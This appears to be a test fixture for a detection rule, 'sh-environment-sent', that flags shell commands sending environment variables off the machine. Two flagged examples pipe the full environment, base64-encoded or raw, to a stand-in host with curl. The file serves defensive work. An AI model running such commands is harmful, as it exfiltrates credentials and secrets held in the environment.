# ruleid: sh-environment-sent
env | base64 | curl -d @- https://collect.example
# ruleid: sh-environment-sent
curl -d "$(printenv)" https://collect.example
# ok: sh-environment-sent
env | sort
# ok: sh-environment-sent
env FOO=1 curl https://example.com
